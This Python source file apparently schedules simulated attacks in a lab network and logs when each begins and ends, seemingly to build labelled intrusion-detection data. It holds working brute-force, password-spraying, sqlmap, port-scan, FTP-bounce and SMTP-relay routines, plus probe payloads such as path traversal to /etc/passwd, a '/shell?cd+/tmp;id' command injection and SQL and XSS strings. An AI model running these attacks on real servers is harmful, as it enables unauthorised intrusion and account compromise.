"""The attacks of a day. Each has addresses of its own, a start, and writes down when it began and ended.

The tools are the ordinary public ones; their word lists here are short and our own.
"""

import json
import random
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from network import Network, inside
from people import DOMAIN, SERVER, STAFF, crowd, desk, outsider

HERE = Path(__file__).parent
NAMES = "root admin test oracle postgres ubuntu user guest git ftp www deploy pi nagios printer support".split()
GUESSES = "123456 password admin root test 12345678 qwerty letmein welcome printer1 changeme P@ssw0rd toor abc123".split()
WEB_WORDS = (
    "admin administrator backup backup.zip cgi-bin config.php config.bak console dashboard db.sql debug dump.sql .git/HEAD "
    ".env .htaccess .svn/entries index.php info.php install jmx-console login.php manager/html mysql old phpinfo.php "
    "phpmyadmin pma private server-status setup.php shell.php sql test.php tmp upload uploads vendor/phpunit web.config "
    "webdav wp-admin wp-login.php xmlrpc.php actuator/health api/v1/users solr/admin hudson jenkins owa boaform/admin"
).split()
PROBES = [
    "/.env", "/wp-login.php", "/.git/config", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "/phpmyadmin/index.php",
    "/../../../../etc/passwd", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env",
    "/index.php?page=../../../../etc/passwd", "/boaform/admin/formLogin?username=admin", "/shell?cd+/tmp;id",
    "/item?id=1%27%20or%20%271%27=%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/solr/admin/info/system",
    "/manager/html", "/owa/auth/logon.aspx", "/server-status", "/config.json", "/HNAP1/", "/console/",
]  # fmt: skip
PROBE_AGENTS = ["Mozilla/5.0", "Go-http-client/1.1", "python-requests/2.31.0", "curl/7.88.1", "-", "Mozilla/5.0 zgrab/0.x"]
SSH = ["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
       "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=20"]  # fmt: skip


@dataclass
class Attacker:
    """Where an attack comes from and what it may use."""

    namespace: str
    sources: list[str]
    rng: random.Random
    folder: Path
    end: float

    def do(self, *command: str, timeout: float = 120) -> int:
        return inside(self.namespace, list(command), min(timeout, max(1, self.end - time.time())), self.folder)

    def wait(self, seconds: float) -> bool:
        time.sleep(max(0, min(seconds, self.end - time.time())))
        return time.time() < self.end

    def words(self, name: str, words: list[str]) -> str:
        file = self.folder / f"{name}-{self.rng.randint(0, 10**9)}.txt"
        file.write_text("\n".join(words) + "\n")
        return str(file)

    def names_and_guesses(self, names: int, guesses: int) -> tuple[str, str]:
        """Word lists in files: so many names and guesses, drawn anew for every attack."""
        return (
            self.words("names", self.rng.sample(NAMES, names)),
            self.words("guesses", self.rng.sample(GUESSES, guesses)),
        )


def hydra(module: str, names: int, guesses: int, tasks: int = 4) -> Callable[[Attacker], None]:
    def attack(by: Attacker) -> None:
        users, passwords = by.names_and_guesses(names, guesses)
        by.do("hydra", "-I", "-q", "-L", users, "-P", passwords, "-t", str(tasks), SERVER, *module.split(" ", 1))

    return attack


def medusa(module: str, names: int, guesses: int) -> Callable[[Attacker], None]:
    def attack(by: Attacker) -> None:
        users, passwords = by.names_and_guesses(names, guesses)
        by.do("medusa", "-h", SERVER, "-U", users, "-P", passwords, "-M", module, "-t", "2")

    return attack


def ncrack(service: str, names: int, guesses: int) -> Callable[[Attacker], None]:
    def attack(by: Attacker) -> None:
        users, passwords = by.names_and_guesses(names, guesses)
        by.do("ncrack", "-U", users, "-P", passwords, f"{service}://{SERVER}", "-T", "3")

    return attack


def slow_ssh(by: Attacker) -> None:
    """One guess at a time with long pauses, under every simple rate limit."""
    while by.wait(by.rng.uniform(18, 45)):
        one_ssh_guess(by, by.sources[0], by.rng.choice(NAMES + STAFF), by.rng.choice(GUESSES))


def spray_ssh(by: Attacker) -> None:
    """The same guess for many accounts from many addresses, one or two each."""
    for guess in by.rng.sample(GUESSES, 2):
        for source in by.sources:
            if not by.wait(by.rng.uniform(2, 12)):
                return
            one_ssh_guess(by, source, by.rng.choice(STAFF + NAMES[:4]), guess)


def one_ssh_guess(by: Attacker, source: str, name: str, guess: str) -> None:
    by.do("sshpass", "-p", guess, *SSH, "-o", f"BindAddress={source}", f"{name}@{SERVER}", "true", timeout=30)


def anonymous_ftp(by: Attacker) -> None:
    """Anonymous logins that look for a place to write, as bots do."""
    for source in by.sources:
        by.do(sys.executable, str(HERE / "talk.py"), source, "21", "USER anonymous", "PASS guest@", "SYST", "PWD",
              "TYPE I", "CWD /pub", "CWD /incoming", "MKD 261122p", "QUIT")  # fmt: skip
        by.wait(by.rng.uniform(5, 40))


def bounce_ftp(by: Attacker) -> None:
    """PORT commands that name a third machine (RFC 2577)."""
    login = ("USER anonymous", "PASS -wwwuser@") if by.rng.random() < 0.5 else ("USER printer", "PASS printer1")
    for port in range(20, 28):
        by.do(sys.executable, str(HERE / "talk.py"), by.sources[0], "21", *login, f"PORT 192,0,2,77,0,{port}", "LIST", "QUIT")
        by.wait(by.rng.uniform(1, 4))


def probe_relay(by: Attacker) -> None:
    """Does the server carry mail from strangers to strangers?"""
    for source in by.sources:
        for number in range(4):
            sender = by.rng.choice(["test@probe.example", f"admin@{DOMAIN}", "spam@bulk.example", "<>"])
            to = by.rng.choice(["relaytest@probe.example", "me%probe.example@" + DOMAIN, f"check{number}@mail.example"])
            by.do("swaks", "--server", SERVER, "--local-interface", source, "--helo", "win-" + str(number),
                  "--from", sender, "--to", to, "--header", f"Message-Id: <{number}@probe.example>", "--body", "relay?", timeout=30)  # fmt: skip
            by.wait(by.rng.uniform(2, 15))


def list_mail_users(by: Attacker) -> None:
    """VRFY and RCPT for many names."""
    names = by.rng.sample(NAMES + STAFF, 24)
    talk = [sys.executable, str(HERE / "talk.py"), by.sources[0], "25"]
    for start in range(0, 24, 6):
        some = names[start : start + 6]
        if start % 12 == 0:
            lines = [f"VRFY {name}" for name in some]
        else:
            lines = ["MAIL FROM:<a@probe.example>", *(f"RCPT TO:<{name}@{DOMAIN}>" for name in some)]
        by.do(*talk, "HELO scan", *lines, "QUIT", timeout=60)
        by.wait(by.rng.uniform(1, 10))


def guess_web_login(by: Attacker) -> None:
    hydra("http-post-form /login:user=^USER^&password=^PASS^:F=Wrong", 4, 9)(by)


def scan_web_words(by: Attacker) -> None:
    words = by.words("paths", by.rng.sample(WEB_WORDS, len(WEB_WORDS)))
    by.do("dirb", f"http://{SERVER}/", words, "-S", "-r", "-N", "404", "-z", "50")


def scan_web_slowly(by: Attacker) -> None:
    """The same words with a browser's name and a few seconds between them."""
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
    for word in by.rng.sample(WEB_WORDS, 34):
        by.do("curl", "-s", "-o/dev/null", "--path-as-is", "-A", agent, "--interface", by.sources[0], f"http://{SERVER}/{word}")
        if not by.wait(by.rng.uniform(1, 9)):
            return


def probe_web(by: Attacker) -> None:
    """Single tries for known holes from many addresses."""
    for source in by.sources:
        agent = by.rng.choice(PROBE_AGENTS)
        for path in by.rng.sample(PROBES, by.rng.randint(1, 4)):
            by.do("curl", "-s", "-o/dev/null", "--path-as-is", "-A", agent, "--interface", source, f"http://{SERVER}{path}")
            by.wait(by.rng.uniform(0.5, 20))


def inject_sql(by: Attacker) -> None:
    by.do("sqlmap", "-u", f"http://{SERVER}/item?id=1", "--batch", "--technique=BE", "--level=1", "--flush-session",
          "--output-dir", str(by.folder / "sqlmap"), "--delay", "0.1", "--disable-coloring", timeout=25)  # fmt: skip


def nmap(*options: str) -> Callable[[Attacker], None]:
    def attack(by: Attacker) -> None:
        by.do("nmap", "-n", "-Pn", *options, SERVER, timeout=240)

    return attack


Attack = tuple[str, float, int, Callable[[Attacker], None]]
"""The label, the start as a part of the session, how many addresses, what is done."""

EVERY_DAY: list[Attack] = [
    ("ssh_brute_force", 0.02, 1, slow_ssh),
    ("ssh_spraying", 0.30, 14, spray_ssh),
    ("ftp_anonymous_probe", 0.15, 3, anonymous_ftp),
    ("smtp_relay_probe", 0.22, 3, probe_relay),
    ("smtp_user_enumeration", 0.50, 1, list_mail_users),
    ("web_probe", 0.05, 14, probe_web),
    ("web_scan", 0.62, 1, scan_web_slowly),
    ("http_brute_force", 0.40, 1, guess_web_login),
    ("port_scan", 0.12, 1, nmap("-sS", "--top-ports", "60", "--max-retries", "0")),
    ("port_scan", 0.33, 1, nmap("-sS", "-p", "1-40", "--scan-delay", "1500ms", "--max-retries", "0")),
]
SOME_DAYS: dict[int, list[Attack]] = {
    1: [
        ("ssh_brute_force", 0.45, 1, hydra("ssh", 5, 5)),
        ("ftp_brute_force", 0.70, 1, hydra("ftp", 4, 5)),
        ("web_scan", 0.25, 1, scan_web_words),
        ("port_scan", 0.80, 1, nmap("-sV", "-p", "21,22,25,80", "--version-light")),
        ("smtp_brute_force", 0.58, 1, hydra("smtp", 3, 5, 2)),
    ],
    2: [
        ("ssh_brute_force", 0.55, 1, medusa("ssh", 4, 6)),
        ("ftp_brute_force", 0.35, 1, medusa("ftp", 4, 5)),
        ("sql_injection", 0.75, 1, inject_sql),
        ("port_scan", 0.85, 1, nmap("-sN", "--top-ports", "40", "--max-retries", "0")),
    ],
    3: [
        ("ssh_brute_force", 0.48, 1, hydra("ssh", 3, 9, 2)),
        ("ftp_brute_force", 0.66, 1, hydra("ftp", 6, 4, 2)),
        ("ftp_bounce", 0.28, 1, bounce_ftp),
        ("smtp_brute_force", 0.18, 1, hydra("smtp", 3, 5, 2)),
        ("web_scan", 0.81, 1, scan_web_words),
    ],
    4: [
        ("ssh_brute_force", 0.36, 1, hydra("ssh", 6, 4)),
        ("ftp_brute_force", 0.57, 1, medusa("ftp", 5, 4)),
        ("sql_injection", 0.70, 1, inject_sql),
        ("smtp_brute_force", 0.77, 1, hydra("smtp", 4, 4, 2)),
        ("port_scan", 0.84, 1, nmap("-sX", "--top-ports", "40", "--max-retries", "0")),
    ],
    5: [
        ("ssh_brute_force", 0.20, 1, ncrack("ssh", 4, 6)),
        ("ssh_brute_force", 0.52, 1, medusa("ssh", 5, 4)),
        ("ftp_brute_force", 0.44, 1, hydra("ftp", 5, 4)),
        ("ftp_bounce", 0.68, 1, bounce_ftp),
        ("sql_injection", 0.60, 1, inject_sql),
        ("smtp_brute_force", 0.74, 1, hydra("smtp", 4, 4, 2)),
        ("web_scan", 0.82, 1, scan_web_words),
        ("port_scan", 0.10, 1, nmap("-sF", "--top-ports", "40", "--max-retries", "0")),
        ("port_scan", 0.86, 1, nmap("-sV", "-p", "21,22,25,80", "--version-light")),
    ],
}
TURNS_AT = 0.55
"""The part of the session after which an ordinary machine is taken over and guesses passwords."""


def start(network: Network, ordinary: str, day: int, begin: float, end: float, folder: Path) -> list[threading.Thread]:
    """Join every attacker to the network and set each attack to its time."""
    log = open(folder / "attacks.jsonl", "w")
    lock = threading.Lock()
    threads = []

    def carry_out(label: str, at: float, attacker: Attacker, attack: Callable[[Attacker], None]) -> None:
        time.sleep(max(0, begin + at * (end - begin) - time.time()))
        started = datetime.now(UTC)
        attack(attacker)
        entry = {"attack": label, "src": attacker.sources, "from": stamp(started), "to": stamp(datetime.now(UTC))}
        with lock:
            print(json.dumps(entry), file=log, flush=True)

    def plan(number: int, label: str, at: float, namespace: str, sources: list[str], attack: Callable[[Attacker], None]) -> None:
        attacker = Attacker(namespace, sources, random.Random(day * 100 + number), folder, end)
        threads.append(threading.Thread(target=carry_out, args=(label, at, attacker, attack)))

    free = crowd(day, 40)
    for number, (label, at, size, attack) in enumerate([*EVERY_DAY, *SOME_DAYS[day]]):
        if size == 1:
            sources = [outsider(day, number)]
        else:
            sources, free = free[:size], free[size:]
        plan(number, label, at, network.join(f"a{number}", sources), sources, attack)
    inside_source = desk(200 + day)

    def taken_over(by: Attacker) -> None:
        for _ in range(14):
            one_ssh_guess(by, inside_source, by.rng.choice(NAMES + STAFF), by.rng.choice(GUESSES))
            by.wait(by.rng.uniform(0.5, 5))

    plan(99, "ssh_brute_force", TURNS_AT + 0.03, ordinary, [inside_source], taken_over)
    for thread in threads:
        thread.start()
    return threads


def stamp(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%SZ")
